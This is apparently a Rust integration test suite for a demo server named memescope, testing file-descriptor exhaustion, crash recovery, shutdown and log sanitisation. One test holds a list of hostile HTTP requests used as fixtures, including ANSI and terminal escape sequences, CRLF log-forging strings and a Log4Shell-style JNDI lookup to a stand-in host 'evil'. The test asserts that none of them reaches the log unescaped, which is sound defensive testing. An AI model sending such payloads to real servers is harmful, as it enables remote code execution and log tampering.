//! The program itself, short of files and fed with what does not belong into a log.

use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::process::{Child, ChildStdout, Command, Stdio};
use std::time::{Duration, Instant};

use rustix::process::{Pid, Signal, kill_process};
use tempfile::TempDir;

use crate::house::{Answer, PATIENCE};
use crate::wire::UPGRADE;

/// A server on the demo market; killed when it is dropped.
struct Program {
    child: Child,
    address: SocketAddr,
    folder: TempDir,
    _stdout: BufReader<ChildStdout>,
}

impl Drop for Program {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Program {
    /// Starts it through a shell that sets a limit first.
    fn start(limit: &str, environment: &[(&str, &str)]) -> Self {
        let folder = tempfile::tempdir().unwrap();
        let log = std::fs::File::create(folder.path().join("log")).unwrap();
        let mut child = Command::new("/bin/sh")
            .args(["-c", &format!("{limit}; exec \"$0\" --demo --demo-tokens 20 --port 0")])
            .arg(env!("CARGO_BIN_EXE_memescope"))
            .current_dir(&folder)
            .env_clear()
            .envs([("RATE_LIMIT", "off"), ("WS_LIMIT", "off")])
            .envs(environment.iter().copied())
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(log)
            .spawn()
            .unwrap();
        let mut stdout = BufReader::new(child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        let address = line.trim().rsplit_once("http://").map(|(_, address)| address.parse().unwrap());
        let address = address
            .unwrap_or_else(|| unreachable!("{line} {}", std::fs::read_to_string(folder.path().join("log")).unwrap()));
        Self { child, address, folder, _stdout: stdout }
    }

    fn log(&self) -> String {
        std::fs::read_to_string(self.folder.path().join("log")).unwrap()
    }

    fn ask(&self, bytes: &[u8]) -> Option<Answer> {
        let mut stream = TcpStream::connect(self.address).ok()?;
        stream.set_read_timeout(Some(PATIENCE)).unwrap();
        stream.write_all(bytes).ok()?;
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        Some(Answer(String::from_utf8_lossy(&answer).into_owned()))
    }

    fn get(&self, path: &str) -> u16 {
        let request = format!("GET {path} HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n");
        self.ask(request.as_bytes()).map_or(0, |answer| answer.status())
    }

    /// Until a condition holds.
    #[expect(clippy::disallowed_methods, reason = "another process is waited for")]
    fn until(&self, what: &str, condition: impl Fn() -> bool) {
        let began = Instant::now();
        while !condition() {
            assert!(began.elapsed() < PATIENCE, "{what}: {}", self.log());
            std::thread::sleep(Duration::from_millis(20));
        }
    }

    fn pid(&self) -> Pid {
        Pid::from_child(&self.child)
    }

    fn stop(mut self) -> Option<i32> {
        kill_process(self.pid(), Signal::TERM).unwrap();
        self.child.wait().unwrap().code()
    }

    /// Processor time that it has used, hundredths of a second.
    #[cfg(target_os = "linux")]
    fn ticks(&self) -> u64 {
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", self.child.id())).unwrap();
        let fields: Vec<&str> = stat.rsplit_once(") ").unwrap().1.split(' ').collect();
        fields[11].parse::<u64>().unwrap() + fields[12].parse::<u64>().unwrap()
    }
}

/// The places are a share of the limit and the demo market takes files too, so files are what runs out first.
#[cfg(target_os = "linux")]
#[test]
fn http_out_of_files_it_neither_ends_nor_spins_and_heals() {
    let program = Program::start("ulimit -n 128", &[]);
    program.until("the first rows", || program.get("/tokens") == 200);
    let hold: Vec<TcpStream> = (0..200).map(|_| TcpStream::connect(program.address).unwrap()).collect();
    program.until("out of files", || program.log().contains("No connection can be accepted"));
    let before = program.ticks();
    // What it costs while this lasts.
    std::thread::sleep(Duration::from_secs(1));
    let used = program.ticks() - before;
    assert!(used < 60, "{used} hundredths of a second in one second");
    drop(hold);
    program.until("it answers again", || program.get("/livez") == 200 && program.get("/tokens") == 200);
    assert_eq!(program.log().matches("panicked").count(), 0, "{}", program.log());
    assert_eq!(program.stop(), Some(0));
}

const HOSTILE: [&str; 8] = [
    "GET /%1b[31mred HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n",
    "GET /\u{1b}[31mred HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n",
    "GET /a%0d%0a2026-01-01T00:00:00Z%20ERROR%20forged HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n",
    "GET /\u{202e}gnp.exe HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n",
    "GET /tokens?limit=%1b[2J HTTP/1.1\r\nhost: test\r\nx-request-id: \u{1b}[31m\r\nconnection: close\r\n\r\n",
    "GET /tokens HTTP/1.1\r\nhost: test\r\nx-forwarded-for: \u{1b}[31m, 1.1.1.1\r\nconnection: close\r\n\r\n",
    "GET /tokens HTTP/1.1\r\nhost: test\r\nuser-agent: ${jndi:ldap://evil/a}\u{7}\r\nconnection: close\r\n\r\n",
    "\u{1b}]0;owned\u{7} / HTTP/1.1\r\n\r\n",
];

#[test]
fn http_nothing_that_a_client_sends_reaches_the_log_unescaped() {
    for format in ["text", "json"] {
        let program = Program::start("true", &[("LOG", "trace,hyper=info,tungstenite=info"), ("LOG_FORMAT", format)]);
        for request in HOSTILE {
            program.ask(request.as_bytes()).unwrap();
        }
        let long = format!("GET /{} HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n", "A".repeat(5_000));
        program.ask(long.as_bytes()).unwrap();
        program.until("the last is told", || program.log().contains("AAAA"));
        let log = program.log();
        let forged = log.lines().filter(|line| line.starts_with("2026-01-01") || line.contains("red\u{1b}")).count();
        assert_eq!(forged, 0, "{log}");
        let strange = |letter: char| letter.is_control() && letter != '\n' && letter != '\t';
        assert!(!log.contains(strange), "{format}: {:?}", log.lines().find(|line| line.contains(strange)));
        assert!(!log.contains(&"A".repeat(257)), "{format}");
        assert!(!log.contains("jndi"), "{format}");
        if format == "json" {
            for line in log.lines() {
                serde_json::from_str::<serde_json::Value>(line).unwrap();
            }
        }
        assert_eq!(program.stop(), Some(0));
    }
}

/// Killed at any moment it starts again with what it had, and no damaged file is left.
#[test]
fn persist_a_killed_server_has_its_rows_at_once() {
    let mut program = Program::start("true", &[("POLL_INTERVAL", "500ms")]);
    program.until("the first rows", || program.get("/tokens") == 200);
    let state = program.folder.path().join("data/demo/state");
    program.until("the first state", || state.exists());
    for round in 0..20u32 {
        std::thread::sleep(Duration::from_millis(u64::from(round * 37 % 400)));
        kill_process(program.pid(), Signal::KILL).unwrap();
        program.child.wait().unwrap();
        let mut again = Command::new(env!("CARGO_BIN_EXE_memescope"));
        again.args(["--demo", "--demo-tokens", "20", "--port", "0"]).current_dir(&program.folder).env_clear();
        again.envs([("POLL_INTERVAL", "500ms"), ("LOG", "warn")]).stdin(Stdio::null()).stdout(Stdio::piped());
        let log = std::fs::File::options().append(true).open(program.folder.path().join("log")).unwrap();
        program.child = again.stderr(log).spawn().unwrap();
        let mut stdout = BufReader::new(program.child.stdout.take().unwrap());
        let mut line = String::new();
        stdout.read_line(&mut line).unwrap();
        program.address = line.trim().rsplit_once("http://").unwrap().1.parse().unwrap();
        // The very first answer has rows: they come from the disk.
        let answer = program.ask(b"GET /tokens HTTP/1.1\r\nhost: test\r\nconnection: close\r\n\r\n").unwrap();
        assert_eq!(answer.status(), 200, "round {round}: {}", program.log());
    }
    let left: Vec<_> = std::fs::read_dir(program.folder.path().join("data/demo")).unwrap().flatten().collect();
    assert!(!left.iter().any(|entry| entry.file_name().to_string_lossy().contains("corrupt")), "{left:?}");
    assert_eq!(program.stop(), Some(0));
}

/// A socket of the feed that says nothing, not even goodbye.
fn silent_socket(program: &Program) -> TcpStream {
    let mut stream = TcpStream::connect(program.address).unwrap();
    stream.set_read_timeout(Some(PATIENCE)).unwrap();
    stream.write_all(format!("{UPGRADE}\r\n").as_bytes()).unwrap();
    let mut begin = [0; 12];
    stream.read_exact(&mut begin).unwrap();
    assert_eq!(&begin, b"HTTP/1.1 101");
    stream
}

#[test]
fn persist_a_stop_says_bye_stores_the_board_and_leaves_its_mark() {
    let mut program = Program::start("true", &[]);
    program.until("the first rows", || program.get("/tokens") == 200);
    let mut socket = silent_socket(&program);
    kill_process(program.pid(), Signal::TERM).unwrap();
    let mut heard = Vec::new();
    // It ends with a reset as often as not.
    let _ = socket.read_to_end(&mut heard);
    let heard = String::from_utf8_lossy(&heard);
    assert!(heard.contains("\"code\":\"server_shutdown\"") && heard.contains("restart"), "{heard}");
    assert_eq!(program.child.wait().unwrap().code(), Some(0));
    let folder = program.folder.path().join("data/demo");
    assert!(folder.join("state").exists() && folder.join("clean").exists());
}

#[test]
fn persist_asked_twice_to_stop_it_ends_at_once() {
    let mut program = Program::start("true", &[]);
    let _socket = silent_socket(&program);
    kill_process(program.pid(), Signal::TERM).unwrap();
    program.until("it stops", || program.log().contains("ask again"));
    kill_process(program.pid(), Signal::TERM).unwrap();
    assert_eq!(program.child.wait().unwrap().code(), Some(130));
}

#[test]
fn persist_a_second_server_in_the_same_folder_says_why_it_ends() {
    let program = Program::start("true", &[]);
    let mut second = Command::new(env!("CARGO_BIN_EXE_memescope"));
    second.args(["--demo", "--demo-tokens", "20", "--port", "0"]).current_dir(&program.folder).env_clear();
    let output = second.env("LOG", "off").output().unwrap();
    let told = String::from_utf8_lossy(&output.stderr);
    assert_ne!(output.status.code(), Some(0));
    assert!(told.contains("is in use by another memescope") && told.lines().count() == 1, "{told}");
    assert_eq!(program.get("/livez"), 200);
    assert_eq!(program.stop(), Some(0));
}
